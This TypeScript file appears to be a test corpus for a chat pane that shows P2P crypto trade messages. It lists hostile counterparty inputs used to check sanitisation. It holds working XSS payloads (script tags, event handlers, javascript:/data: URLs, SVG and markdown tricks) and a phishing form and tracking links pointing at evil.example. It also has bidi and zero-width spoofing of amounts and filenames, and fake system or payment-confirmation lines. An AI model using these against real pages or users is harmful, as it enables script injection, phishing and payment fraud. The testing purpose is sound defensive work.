// The hostile-counterparty corpus, by family (issue 12): every string here is something a
// counterparty can put in a field it controls (text, a name, a caption, a file name, a link, a
// card label...). Pure data: tables of tags, handlers and spellings crossed where the crossing is
// the point (every handler in every quoting), written out where each case is its own trick. Every
// script payload sets window.__xss, so one check on the page says whether anything ran.

/** A handler body, so every family sets the same flag. */
const RUN = 'window.__xss=1';

const scriptTags = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src=data:,${RUN}></script>`,
  `<script/src="data:text/javascript,${RUN}"></script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `<script>/*</script><script>*/${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script x>${RUN}</script y>`,
  `<<script>${RUN}//<</script>`,
  `<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>`,
  `<script>setTimeout("${RUN}")</script>`,
  `<script>\u2028${RUN}\u2029</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<!--<script>-->${RUN}<!--</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

/** Tags that fire a handler without a click, and the handler each needs. */
const HANDLER_TAGS: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['div style="animation:spin 1s"', 'onanimationstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['select autofocus', 'onfocusin'],
];

/** One handler attribute in every way HTML lets it be written. */
const HANDLER_QUOTING: readonly ((handler: string) => string)[] = [
  (h) => ` ${h}="${RUN}"`,
  (h) => ` ${h}='${RUN}'`,
  (h) => ` ${h}=${RUN}`,
  (h) => ` ${h}=\`${RUN}\``,
  (h) => `/${h.toUpperCase()}=${RUN}`,
  (h) => `\n${h}\n=\n"${RUN}"`,
];

const eventHandlers = [
  ...HANDLER_TAGS.flatMap(([tag, handler]) => HANDLER_QUOTING.slice(0, 3).map((quote) => `<${tag}${quote(handler)}>`)),
  ...HANDLER_QUOTING.slice(3).map((quote) => `<img src=x${quote('onerror')}>`),
  `<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.__xss=1>`,
  `<img src=x onerror="&#x77;indow.__xss=1">`,
  `<img src=x onerror="\\u0077indow.__xss=1">`,
  `<a onmouseover="${RUN}">hover me</a>`,
  `<div onpointerenter="${RUN}" style="position:fixed;inset:0">`,
  `<button onclick="${RUN}">Confirm payment</button>`,
  `<img src="x" alt="" onerror="${RUN}"/>`,
  `"onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\` onfocus=${RUN} autofocus \``,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x to=1>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
];

/** `javascript:` and friends as a URL field or a link target: every spelling a parser may forgive. */
const schemeUrls = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  `jAvAsCrIpT:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://comment%0d%0a${RUN}`,
  `\tjavascript:${RUN}`,
  `\njavascript:${RUN}`,
  `\u0000javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `java\u0000script:${RUN}`,
  `jav&#x09;ascript:${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${RUN}`,
  `&#0000106&#0000097vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `\\u006aavascript:${RUN}`,
  `%6A%61%76%61%73%63%72%69%70%74:${RUN}`,
  `javascript%3A${RUN}`,
  `ｊａｖａｓｃｒｉｐｔ：${RUN}`,
  `vbscript:msgbox(1)`,
  `VBSCRIPT:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:text/html;charset=utf-7,+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=`,
  `data:image/png;base64,iVBORw0KGgo"onerror="${RUN}`,
  `data:application/javascript,${RUN}`,
  `blob:https://evil.example/1b2c`,
  `file:///etc/passwd`,
  `command:workbench.action.terminal.new`,
  `vscode://vscode.git/clone?url=https://evil.example/repo`,
  `//evil.example/phish`,
  `https:evil.example`,
  `https://user:pass@evil.example/`,
  `https://ok.example@evil.example/`,
  `https://ok.example/"onmouseover="${RUN}`,
  `https://ok.example/'><script>${RUN}</script>`,
  `https://ok.example/<img src=x onerror=${RUN}>`,
  `https://xn--80ak6aa92e.com/`,
  `https://аpple.com/`,
  `http://127.0.0.1:1/`,
  `https://ok.example/${'a'.repeat(3000)}`,
];

const svgMathml = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import'javascript:${RUN}';</style></svg>`,
  `<svg><title><style><img src=x onerror=${RUN}></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg><image href=x onerror=${RUN} />`,
  `<math><maction actiontype="statusline#http://ok.example" xlink:href="javascript:${RUN}">click</maction></math>`,
  `<math href="javascript:${RUN}">CLICK</math>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>"></textarea></mtext></svg></mglyph></table></mtext></math>`,
  `<svg><p><style><img src=x onerror=${RUN}></p></svg>`,
];

const cssInjection = [
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<div style="-moz-binding:url(https://evil.example/xbl.xml#x)">`,
  `<div style="behavior:url(evil.htc)">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>@import url("javascript:${RUN}");</style>`,
  `<style>body{background:url("https://evil.example/track?c=1")}</style>`,
  `<style>.msg--in{display:none}.msg--out::after{content:"✓✓ Read"}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p>`,
  `<span style="font-size:0">hidden</span>`,
  `</style><img src=x onerror=${RUN}>`,
  `}*{background:url(https://evil.example/x)}`,
  `color:red;background-image:url('javascript:${RUN}')`,
];

/** Markdown (Mixin posts): links, images, references, autolinks, HTML blocks, nesting, footnotes. */
const markdownTricks = [
  `[ok](javascript:${RUN})`,
  `[ok](&#106;avascript:${RUN})`,
  `[ok](<javascript:${RUN}>)`,
  `[ok]( javascript:${RUN})`,
  `[ok](java%0ascript:${RUN})`,
  `[ok](javascript&#58;${RUN})`,
  `[ok](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[ok](vbscript:msgbox(1))`,
  `[ok](command:workbench.action.terminal.new)`,
  `[ok](file:///etc/passwd)`,
  `[https://ok.example](https://evil.example)`,
  `[![img](https://evil.example/a.png)](javascript:${RUN})`,
  `![a](https://evil.example/track.png)`,
  `![a](javascript:${RUN})`,
  `![a"onerror="${RUN}](https://ok.example/a.png)`,
  `[x][r]\n\n[r]: javascript:${RUN} "title"`,
  `[x][r]\n\n[r]: <data:text/html,<script>${RUN}</script>>`,
  `<https://ok.example/"onerror=${RUN}>`,
  `<mailto:a@b.example?body=<script>${RUN}</script>>`,
  `<a href="javascript:${RUN}">*click*</a>`,
  `<img src=x onerror=${RUN}>\n\ntext after`,
  `<details><summary>open</summary><script>${RUN}</script></details>`,
  `***__*_nested_*__***`,
  `${'_'.repeat(3000)}a${'_'.repeat(3000)}`,
  `${'['.repeat(500)}a${']('.repeat(500)}`,
  `text[^1]\n\n[^1]: [note](javascript:${RUN})`,
  `| a |\n|---|\n| [x](javascript:${RUN}) |`,
  `- [ ] task <img src=x onerror=${RUN}>\n- [x] done`,
  `\`<script>${RUN}</script>\``,
  `    <script>${RUN}</script>`,
  `~~~\n</code></pre><img src=x onerror=${RUN}>\n~~~`,
  `# <img src=x onerror=${RUN}>`,
  `*[a](https://ok.example/ "x\\"onmouseover=\\"${RUN}")*`,
  `[a](https://ok.example/\u202Egpj.exe)`,
  `www.evil.example/<script>${RUN}</script>`,
];

/** Template syntax of the frameworks a renderer might have used. */
const templateSyntax = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{{{${RUN}}}}`,
  `[[${RUN}]]`,
  `<div v-html="'<img src=x onerror=${RUN}>'"></div>`,
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7}`,
  `{% raw %}<script>${RUN}</script>{% endraw %}`,
];

/** Every bidi control (shared/bidiControls.ts) in the place a counterparty would hide it. */
const bidiControls = [
  'invoice\u202Efdp.exe',
  'pay \u202E00.001\u202C EUR',
  'IBAN DE89\u202E 3704 0044 0532\u202C 0130 00',
  '\u202Dforced ltr\u202C',
  '\u202Aembedded ltr\u202C',
  '\u202Bembedded rtl\u202C',
  '\u2066isolate ltr\u2069',
  '\u2067isolate rtl\u2069',
  '\u2068first strong\u2069',
  'unbalanced \u2067 isolate never closed',
  'unbalanced pop \u2069\u2069\u202C',
  '\u200Fmark rtl \u200Emark ltr \u061Carabic mark',
  'alice\u202E (Bybit support)',
  'amount 1\u202E000\u202C,00 USDT',
  '\u202E'.repeat(200) + 'deep',
];

/** Invisible characters that make two strings look alike. */
const zeroWidth = [
  'alice\u200B_p2p',
  'pay\u200Bpal.com',
  'zero\u200Cnon\u200Djoiner',
  '\uFEFFbom at start',
  'word\u2060joiner',
  'in\u2061vis\u2062ible\u2063 ops\u2064',
  'soft\u00ADhyphen',
  'hangul\u3164filler',
  'braille\u2800blank',
  '\u200B'.repeat(5000),
  'invoice.pdf\u200B.exe',
  'mongolian\u180Evowel',
];

/**
 * Lines that try to pass for something the pane draws itself: our own message, a system notice, a
 * status tick, a timestamp, a second message, a VS Code icon, a notification command link.
 */
const spoofLines = [
  'You: I released the crypto',
  '\n\nYou\n10:42 ✓✓ Read\nok, released',
  'message\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n10:43\nYou: paid',
  '✓✓ Read',
  'Read ✓✓ 10:42',
  'System: the buyer has marked the order as paid',
  '— Order completed —',
  '⚠ Not sent: the venue did not accept the message',
  'Message withdrawn',
  'Automatic reply: payment received',
  '[Venue Chat] Payment confirmed by the venue',
  'Bybit support',
  'SYSTEM',
  'System',
  'system',
  'MEXC Official: your account is frozen, send 100 USDT to unlock',
  '$(check) Paid $(verified) verified merchant',
  '$(warning) Sign-in failed: enter your key at https://evil.example',
  '[Confirm payment](command:workbench.action.terminal.new)',
  '[Open order](https://evil.example/order)',
  '2025-01-15 10:42 You: done',
  '\u2028You: line separator\u2029You: paragraph separator',
  'Ｙｏｕ： fullwidth',
  'Yоu: cyrillic о',
  '\r\nYou: carriage return',
];

/** Words no layout expects: 100,000 characters without a space, and other long runs. */
const hugeWords = [
  'A'.repeat(100_000),
  '<'.repeat(20_000),
  '&#'.repeat(20_000),
  'https://ok.example/' + 'x'.repeat(20_000),
  '\u0301'.repeat(5000),
  'Z\u0336\u0337\u0338'.repeat(2000),
  '🧨'.repeat(10_000),
  'W'.repeat(10_000) + ' ' + 'M'.repeat(10_000),
];

/** Characters a naive encoder mishandles: NUL, C0/C1 controls, separators, lone surrogates, nonchars. */
const controlChars = [
  'nul\u0000inside',
  '\u0000'.repeat(50),
  'bell\u0007backspace\u0008escape\u001b[31mred\u001b[0m',
  'vertical\u000Btab form\u000Cfeed',
  'delete\u007F c1\u0085next line \u009B',
  'lone high \uD800 surrogate',
  'lone low \uDFFF surrogate',
  'reversed pair \uDC00\uD800',
  'trailing high \uDBFF',
  'nonchar \uFFFE \uFFFF',
  'annotation \uFFF9base\uFFFAruby\uFFFB',
  'object \uFFFC replacement \uFFFD',
  'line\u2028separator paragraph\u2029separator',
  '\u0000<script>window.__xss=1</script>',
  'tag chars \u{E0041}\u{E0042}\u{E007F}',
];

/** Text already escaped, double-escaped or in another encoding: shown as written, never decoded. */
const encodingTricks = [
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&amp;lt;img src=x onerror=window.__xss=1&amp;gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '&#x3C;svg onload=window.__xss=1&#x3E;',
  '\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=window.__xss=1\\u003e',
  '%3Cscript%3Ewindow.__xss=1%3C%2Fscript%3E',
  '+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-',
  '\uFF1Cscript\uFF1Ewindow.__xss=1\uFF1C/script\uFF1E',
  '\u00BCscript\u00BEwindow.__xss=1\u00BC/script\u00BE',
];

/** Markup that is not script but would change the page: navigation, forms, frames, plugins. */
const htmlInjection = [
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/steal"><input name="key" value="paste your API key"><button>Verify</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>`,
  '<frameset><frame src="https://evil.example/"></frameset>',
  `<a href="https://evil.example/" target="_top">Open your order</a>`,
  `<a id="x" href="#" onclick="${RUN}">x</a>`,
  '<input type="image" src="https://evil.example/track.png">',
  '<img srcset="https://evil.example/track.png 1x">',
  '<picture><source srcset="https://evil.example/a.png"></picture>',
  '<video poster="https://evil.example/poster.png"></video>',
  '<dialog open>Your session expired. <a href="https://evil.example/">Sign in</a></dialog>',
  '<div popover id=p>Payment confirmed</div>',
  '<portal src="https://evil.example/"></portal>',
  '<div id="app">clobbered</div><form name="body"></form><img name="getElementById">',
  '<p>unclosed <b>bold <i>italic',
  '<!-- comment --><!--> <!---> --!> <img src=x onerror=window.__xss=1>',
];

/** The corpus by family. */
export const FAMILIES = {
  scriptTags,
  eventHandlers,
  schemeUrls,
  svgMathml,
  cssInjection,
  markdownTricks,
  templateSyntax,
  bidiControls,
  zeroWidth,
  spoofLines,
  hugeWords,
  controlChars,
  encodingTricks,
  htmlInjection,
} as const satisfies Record<string, readonly string[]>;

export type Family = keyof typeof FAMILIES;
